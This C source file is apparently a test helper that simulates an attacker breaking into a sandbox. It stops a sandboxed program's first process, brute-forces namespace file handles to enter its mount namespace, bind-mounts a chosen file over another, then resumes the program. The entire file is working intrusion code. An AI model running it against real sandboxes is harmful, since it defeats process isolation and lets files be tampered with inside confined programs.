// Plays who lays a file over another one in the mount namespace of a program that is started in a sandbox: stops process 1
// as soon as it is there, finds its mount namespace by its number (Linux 6.18), enters it, mounts, and lets it go on.
//
// mountgrab FILE OVER PROGRAM ARGUMENT…: ends with the program's status; descriptor 3 says how often it has mounted.
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/wait.h>
#include <unistd.h>

#define NSFS_ROOT (-10003) // FD_NSFS_ROOT, Linux 6.18
#define NSFS_HANDLE 0xf1   // FILEID_NSFS
#define NS_ID _IOR(0xb7, 13, uint64_t)
#define NS_OWNER _IO(0xb7, 1)
#define INODE_FIRST 0xf0000000u
#define INODE_COUNT 0x1000u

#define SECONDS_MAX 45

static int ends[2]; // of a pipe
static volatile pid_t stopped;

// Nobody else would let it go on.
static void give_up(int number)
{
	(void)number;
	if (stopped > 0)
		kill(stopped, SIGCONT);
	_exit(97);
}

// Numbers are given in turn.
static uint64_t number_next(void)
{
	uint64_t number = 0;
	pid_t child = fork();
	if (child == 0) {
		int fd = unshare(CLONE_NEWUSER) == 0 ? open("/proc/self/ns/user", O_RDONLY | O_CLOEXEC) : -1;
		_exit(fd < 0 || ioctl(fd, NS_ID, &number) < 0 || write(ends[1], &number, sizeof(number)) != sizeof(number));
	}
	waitpid(child, NULL, 0);
	return read(ends[0], &number, sizeof(number)) == sizeof(number) ? number : 0;
}

static ssize_t file_read(const char *path, char *text, size_t bytes)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, text, bytes - 1);
	if (fd >= 0)
		close(fd);
	text[n > 0 ? n : 0] = 0;
	return n;
}

// In a PID namespace of its own?
static int is_process_1(pid_t pid)
{
	char path[64], text[4096];
	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	if (file_read(path, text, sizeof(text)) <= 0)
		return 0;
	const char *line = strstr(text, "\nNSpid:");
	return line && strcspn(line + 8, "\n") > strcspn(line + 8, "\t\n");
}

static pid_t process_1_stop(pid_t parent)
{
	char path[64], list[256];
	snprintf(path, sizeof(path), "/proc/%d/task/%d/children", parent, parent);
	siginfo_t ended = {0};
	while (waitid(P_PID, (id_t)parent, &ended, WEXITED | WNOHANG | WNOWAIT) == 0 && ended.si_pid == 0) {
		if (file_read(path, list, sizeof(list)) <= 0)
			continue;
		// The last one: others help.
		char *last = list + strlen(list);
		last -= last > list; // a space ends it
		while (last > list && last[-1] != ' ')
			last--;
		pid_t pid = (pid_t)strtol(last, NULL, 10);
		if (is_process_1(pid) && kill(pid, SIGSTOP) == 0)
			return pid;
	}
	return 0;
}

static int mount_in(int space, int owner, const char *file, const char *over)
{
	int status = 1;
	pid_t child = fork();
	if (child == 0)
		_exit(setns(owner, CLONE_NEWUSER) < 0 || setns(space, CLONE_NEWNS) < 0 ||
		      mount(file, over, NULL, MS_BIND, NULL) < 0);
	waitpid(child, &status, 0);
	return status == 0;
}

static int spaces_enter(uint64_t first, uint64_t end, const char *file, const char *over)
{
	struct {
		struct file_handle head;
		struct {
			uint64_t number;
			uint32_t kind, inode;
		} space;
	} handle = {.head = {.handle_bytes = sizeof(handle.space), .handle_type = NSFS_HANDLE}};
	int count = 0;
	for (uint64_t number = first + 1; number < end; number++)
		for (uint32_t inode = INODE_FIRST; inode < INODE_FIRST + INODE_COUNT; inode++) {
			handle.space.number = number;
			handle.space.kind = CLONE_NEWNS;
			handle.space.inode = inode;
			int space = open_by_handle_at(NSFS_ROOT, &handle.head, O_RDONLY | O_CLOEXEC);
			int owner = space < 0 ? -1 : ioctl(space, NS_OWNER);
			if (owner < 0)
				continue;
			count += mount_in(space, owner, file, over);
			break;
		}
	return count;
}

int main(int argc, char *argv[])
{
	int status = 0;
	if (argc < 4 || pipe2(ends, O_CLOEXEC | O_NONBLOCK) < 0)
		return 99;
	fcntl(3, F_SETFD, FD_CLOEXEC);
	uint64_t first = number_next();
	pid_t program = fork();
	if (program == 0) {
		execv(argv[3], argv + 3);
		_exit(99);
	}
	signal(SIGALRM, give_up);
	alarm(SECONDS_MAX);
	pid_t one = stopped = process_1_stop(program);
	int count = one > 0 ? spaces_enter(first, number_next(), argv[1], argv[2]) : 0;
	if (one > 0)
		kill(one, SIGCONT);
	alarm(0);
	dprintf(3, "%d\n", count);
	waitpid(program, &status, 0);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 98;
}
